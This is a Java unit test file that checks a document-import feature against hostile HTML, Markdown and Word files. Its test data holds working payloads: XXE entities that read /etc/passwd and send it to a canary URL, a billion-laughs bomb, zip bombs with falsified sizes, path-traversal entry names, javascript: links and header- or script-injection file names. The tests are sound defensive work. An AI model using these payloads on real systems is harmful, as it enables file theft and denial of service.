package io.imprimatur.drafting.draft.imports;

import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import com.sun.management.ThreadMXBean;
import com.sun.net.httpserver.HttpServer;
import io.imprimatur.drafting.draft.html.CanonicalHtml;
import io.imprimatur.kit.Invalid;
import io.imprimatur.kit.TooLarge;
import io.imprimatur.testkit.HostileMarkup;
import java.io.IOException;
import java.lang.management.ManagementFactory;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.Charset;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Files made to run, to fetch, to fill the memory, or to leave the folder they are in. */
class HostileFilesTest {

  private static final Set<String> ATTRIBUTES =
      Set.of("href", "rel", "colspan", "rowspan", "scope");

  /** Far more than any of these takes on a slow machine; an endless one would take for ever. */
  private static final Duration LONGEST = Duration.ofSeconds(60);

  private static final Queue<String> ASKED = new ConcurrentLinkedQueue<>();
  private static HttpServer canary;
  private static String canaryUrl;

  private final Imports imports = new Imports(ImportLimits.DEFAULT);

  @BeforeAll
  static void start() throws IOException {
    canary = HttpServer.create(new InetSocketAddress(InetAddress.getByName("127.0.0.1"), 0), 0);
    canary.createContext(
        "/",
        exchange -> {
          ASKED.add(exchange.getRequestURI().toString());
          exchange.sendResponseHeaders(200, -1);
          exchange.close();
        });
    canary.start();
    canaryUrl = "http://127.0.0.1:" + canary.getAddress().getPort();
  }

  @AfterAll
  static void stop() {
    canary.stop(0);
  }

  @AfterEach
  void nothingWasFetched() {
    assertThat(ASKED).isEmpty();
  }

  static Stream<String> markup() {
    return HostileMarkup.all(HostileMarkup.CANARY).stream();
  }

  @ParameterizedTest
  @MethodSource("markup")
  void nothingThatRunsComesInByAFile(String markup) {
    for (String name : List.of("a.html", "a.htm", "a.md", "a.markdown", "a.txt")) {
      for (Charset charset : List.of(UTF_8, UTF_16)) {
        Imported read;
        try {
          read = imports.read(name, ("<p>Words.</p>\n\n" + markup).getBytes(charset));
        } catch (Invalid | UnsupportedFile e) {
          continue; // control characters, and the like
        }
        assertHarmless(read.body());
      }
    }
  }

  private static void assertHarmless(String body) {
    assertThat(CanonicalHtml.of(body)).isEqualTo(new CanonicalHtml(body, List.of(), List.of()));
    for (Element element : Jsoup.parseBodyFragment(body).body().select("*")) {
      assertThat(element.attributes().asList())
          .allSatisfy(a -> assertThat(ATTRIBUTES).contains(a.getKey()));
      assertThat(element.normalName())
          .isNotIn("script", "style", "svg", "math", "img", "iframe", "object", "form", "base");
      if (element.hasAttr("href")) {
        assertThat(element.attr("href")).matches("(https?://|mailto:).*");
      }
    }
  }

  @ParameterizedTest
  @MethodSource("markup")
  void markupThatIsTextInAWordDocumentStaysText(String markup) {
    String text = markup.replaceAll("[\\p{Cntrl}]", " ");
    String escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;");
    Imported read = imports.read("a.docx", new Docx().paragraph(escaped).bytes());
    assertHarmless(read.body());
    assertThat(Jsoup.parseBodyFragment(read.body()).text().replaceAll("\\s+", " "))
        .isEqualTo(text.strip().replaceAll("\\s+", " "));
    assertThat(Jsoup.parseBodyFragment(read.body()).select("p *")).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "javascript:ran()",
        "JaVaScRiPt:ran()",
        " javascript:ran()",
        "java&#9;script:ran()",
        "vbscript:x",
        "data:text/html,x",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
        "//evil.example/",
        "http://user:word@evil.example/"
      })
  void aLinkInAWordDocumentLeadsToAPageOrNowhere(String target) {
    String type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink";
    String field =
        "<w:p><w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText> HYPERLINK"
            + " \"%s\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType='separate'/></w:r>"
            + "<w:r><w:t>field</w:t></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:p>";
    byte[] document =
        new Docx()
            .relation("e", type, target, "TargetMode='External'")
            .paragraph("Heading1", "Title")
            .raw("<w:p><w:hyperlink r:id='e'><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>")
            .raw(field.formatted(target))
            .bytes();
    Imported read = imports.read("a.docx", document);
    assertHarmless(read.body());
    assertThat(read.body()).contains("link", "field").doesNotContain("<a ");
  }

  @Test
  void whatAWordDocumentWouldFetchOrEmbedIsNotTaken() {
    String office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    byte[] document =
        new Docx()
            .relation(
                "t", office + "attachedTemplate", canaryUrl + "/t.dotm", "TargetMode='External'")
            .relation("c", office + "aFChunk", "chunk.html", "")
            .relation("o", office + "oleObject", canaryUrl + "/o", "TargetMode='External'")
            .relation("p", office + "image", canaryUrl + "/p.png", "TargetMode='External'")
            .part("word/chunk.html", "<html><body><script>ran()</script><p>Chunk</p></body></html>")
            .part("word/embeddings/oleObject1.bin", "x")
            .part("word/vbaProject.bin", "x")
            .paragraph("Words.")
            .raw("<w:altChunk r:id='c'/>")
            .raw(
                "<w:p><w:r><w:object><o:OLEObject xmlns:o='urn:o' r:id='o'/></w:object></w:r></w:p>")
            .raw(
                "<w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData><pic:pic><pic:blipFill>"
                    + "<a:blip r:link='p'/></pic:blipFill></pic:pic></a:graphicData></a:graphic>"
                    + "</wp:inline></w:drawing></w:r></w:p>")
            .bytes();
    Imported read = imports.read("a.docx", document);
    assertThat(read.body()).contains("Words.").doesNotContain("Chunk", "ran");
    assertThat(read.leftOut()).contains("embedded files", "macros", "img");
  }

  static Stream<String> doctypes() {
    String laughs =
        Stream.iterate(1, i -> i + 1)
            .limit(30)
            .map(i -> "<!ENTITY l%d '%s'>".formatted(i, ("&l" + (i - 1) + ";").repeat(10)))
            .reduce("<!ENTITY l0 'lol'>", String::concat);
    return Stream.of(
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'file:///etc/passwd'>]><x>&f;</x>",
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'CANARY/general'>]><x>&f;</x>",
        "<!DOCTYPE x [<!ENTITY f PUBLIC '-//x' 'CANARY/public'>]><x>&f;</x>",
        "<!DOCTYPE x SYSTEM 'CANARY/external.dtd'><x/>",
        "<!DOCTYPE x PUBLIC '-//W3C//DTD XHTML 1.0//EN' 'CANARY/public.dtd'><x/>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM 'CANARY/parameter.dtd'> %p;]><x/>",
        "<!DOCTYPE x [<!ENTITY % f SYSTEM 'file:///etc/hostname'><!ENTITY % e \"<!ENTITY &#37; s"
            + " SYSTEM 'CANARY/?%f;'>\"> %e; %s;]><x/>",
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'jar:CANARY/a.jar!/x'>]><x>&f;</x>",
        "<!DOCTYPE x [<!ENTITY f SYSTEM 'CANARY/unparsed' NDATA n><!NOTATION n SYSTEM"
            + " 'CANARY/notation'>]><x/>",
        "<!DOCTYPE x [" + laughs + "]><x>&l30;</x>",
        "<!DOCTYPE x [<!ENTITY q '"
            + "q".repeat(100_000)
            + "'>]><x>"
            + "&q;".repeat(50_000)
            + "</x>",
        "<!DOCTYPE x [<!ENTITY r '&r;'>]><x>&r;</x>",
        "<!DOCTYPE x [<!ATTLIST x y CDATA '&z;'><!ENTITY z 'z'>]><x/>",
        "<!DOCTYPE x><x/>");
  }

  @ParameterizedTest
  @MethodSource("doctypes")
  void aDocumentTypeIsRefusedWhereverItStands(String xml) {
    String asking = xml.replace("CANARY", canaryUrl);
    for (String part :
        List.of(
            "word/styles.xml",
            "word/_rels/document.xml.rels",
            "[Content_Types].xml",
            "_rels/.rels",
            "docProps/core.xml",
            "customXml/item1.xml",
            "word/odd.bin")) {
      for (String prolog : List.of("", "<?xml version='1.0' standalone='no'?>")) {
        byte[] document =
            new Docx().paragraph("x").part(part, (prolog + asking).getBytes(UTF_8)).bytes();
        assertThatExceptionOfType(Invalid.class)
            .as("%s in %s", xml.substring(0, Math.min(80, xml.length())), part)
            .isThrownBy(() -> within(() -> imports.read("a.docx", document)))
            .withMessageContaining(part);
      }
    }
    byte[] wide =
        new Docx()
            .paragraph("x")
            .part(
                "word/styles.xml",
                ("<?xml version='1.0' encoding='UTF-16'?>" + asking).getBytes(UTF_16))
            .bytes();
    assertThatExceptionOfType(Invalid.class)
        .isThrownBy(() -> within(() -> imports.read("a.docx", wide)));
  }

  @Test
  void whatXmlWouldIncludeIsNotIncluded() {
    byte[] document =
        new Docx()
            .raw(
                "<w:p><w:r><w:t>Before<xi:include xmlns:xi='http://www.w3.org/2001/XInclude'"
                    + " href='file:///etc/passwd' parse='text'/>after</w:t></w:r></w:p>")
            .part(
                "word/styles.xml",
                "<?xml-stylesheet type='text/xsl' href='%s/x.xsl'?><x xmlns:xsi='http://www.w3.org/2001/XMLSchema-instance' xsi:schemaLocation='x %s/x.xsd'/>"
                    .formatted(canaryUrl, canaryUrl))
            .bytes();
    assertThat(imports.read("a.docx", document).body()).isEqualTo("<p>Beforeafter</p>");
  }

  @Test
  void aBombIsStoppedLongBeforeItFillsTheMemory() {
    byte[] huge = new byte[512 << 20];
    byte[] bomb = new Docx().paragraph("x").part("word/media/x.png", huge).bytes();
    byte[] text = huge.clone();
    java.util.Arrays.fill(text, (byte) ' ');
    byte[] textBomb = new Docx().paragraph("x").part("word/huge.xml", text).bytes();
    huge = null;
    text = null;
    for (byte[] bytes : List.of(bomb, textBomb)) {
      assertThat(bytes.length).isLessThan(1 << 20);
      long allocated =
          allocatedBy(
              () ->
                  assertThatExceptionOfType(RuntimeException.class)
                      .isThrownBy(() -> imports.read("a.docx", bytes))
                      .satisfies(
                          e -> assertThat(e).isInstanceOfAny(ZipBomb.class, TooLarge.class)));
      assertThat(allocated).isLessThan(256L << 20);
    }
    // The same inside of another archive is never opened, and so is small.
    Imported read =
        imports.read("a.docx", new Docx().paragraph("x").part("word/media/x.zip", bomb).bytes());
    assertThat(read.body()).isEqualTo("<p>x</p>");
  }

  /** What an entry says of its size is not believed. */
  @ParameterizedTest
  @CsvSource({"1", "0", "2147483647", "-1"})
  void aSizeThatLiesChangesNothing(int said) {
    byte[] bomb = new Docx().paragraph("x").part("word/media/x.png", new byte[200 << 20]).bytes();
    byte[] good = new Docx().paragraph("x".repeat(5_000)).bytes();
    lie(bomb, said);
    lie(good, said);
    assertThatExceptionOfType(RuntimeException.class)
        .isThrownBy(() -> within(() -> imports.read("a.docx", bomb)))
        .satisfies(
            e ->
                assertThat(e)
                    .isInstanceOfAny(ZipBomb.class, TooLarge.class, Invalid.class)
                    .hasMessageMatching("(?s).*(100 times|unpacked|damaged).*"));
    assertThat(allocatedBy(() -> refusedOrRead(good))).isLessThan(64L << 20);
  }

  private void refusedOrRead(byte[] document) {
    try {
      assertThat(imports.read("a.docx", document).body())
          .isEqualTo("<p>" + "x".repeat(5_000) + "</p>");
    } catch (Invalid e) {
      assertThat(e).hasMessageContaining("damaged");
    }
  }

  /** Puts another size into each local header and each entry of the directory. */
  private static void lie(byte[] zip, int said) {
    for (int i = 0; i + 30 < zip.length; i++) {
      boolean header = zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 3 && zip[i + 3] == 4;
      boolean entry = zip[i] == 'P' && zip[i + 1] == 'K' && zip[i + 2] == 1 && zip[i + 3] == 2;
      int at = i + (header ? 22 : 24);
      for (int b = 0; (header || entry) && b < 4; b++) {
        zip[at + b] = (byte) (said >>> (8 * b));
      }
    }
  }

  @Test
  void manyEmptyPartsAreRefusedToo() {
    Map<String, byte[]> parts = new LinkedHashMap<>();
    for (int i = 0; i < 60_000; i++) {
      parts.put("word/" + i, new byte[0]);
    }
    byte[] document = Docx.zip(parts);
    assertThatExceptionOfType(Invalid.class)
        .isThrownBy(() -> within(() -> imports.read("a.docx", document)))
        .withMessageContaining("more than 2000 parts");
  }

  @Test
  void entriesThatLeaveTheirFolderWriteNothingAnywhere(@TempDir Path folder) throws IOException {
    Path target = folder.resolve("escaped.xml");
    String up = "../".repeat(20) + target.toString().substring(1);
    Docx document = new Docx().paragraph("Words.");
    for (String name :
        List.of(
            up,
            "word/" + up,
            target.toString(),
            up.replace('/', '\\'),
            "C:\\escaped.xml",
            "\\\\evil.example\\escaped.xml",
            "word/..",
            "..",
            "word/\u0000" + up,
            "word/escaped.xml\u0000.png")) {
      document.part(name, "<escaped/>");
    }
    assertThat(imports.read("a.docx", document.bytes()).body()).isEqualTo("<p>Words.</p>");
    assertThat(target).doesNotExist();
    try (var files = Files.list(folder)) {
      assertThat(files).isEmpty();
    }
    assertThat(Path.of("C:\\escaped.xml")).doesNotExist();
  }

  @ParameterizedTest
  @CsvSource({
    "../../../etc/passwd.txt, passwd",
    "/etc/cron.d/x.txt, x",
    "C:\\Windows\\x.txt, x",
    "\\\\evil.example\\share\\x.txt, x",
    "..\\..\\x.txt, x",
    "x\u0000.docx.txt, x.docx",
    "x.txt\u0000.txt, x.txt",
    "'x\r\nX-Evil: 1.txt', xX-Evil: 1",
    "x\u202etxt.txt, xtxt",
    "'<img src=x onerror=ran()>.txt', '<img src=x onerror=ran()>'",
    "....//....//x.txt, x",
    "%2e%2e%2fx.txt, %2e%2e%2fx"
  })
  void aFilesNameIsItsLastPartInPlainCharacters(String name, String title) {
    Imported read = imports.read(name, "Words alone.".getBytes(UTF_8));
    assertThat(read.title()).isEqualTo(title);
    assertThat(read.file()).doesNotContain("/", "\\", "\u0000", "\r", "\n", "\u202e");
  }

  private static void within(Runnable work) {
    org.junit.jupiter.api.Assertions.assertTimeout(LONGEST, work::run);
  }

  private static long allocatedBy(Runnable work) {
    ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
    long before = threads.getCurrentThreadAllocatedBytes();
    work.run();
    return threads.getCurrentThreadAllocatedBytes() - before;
  }
}
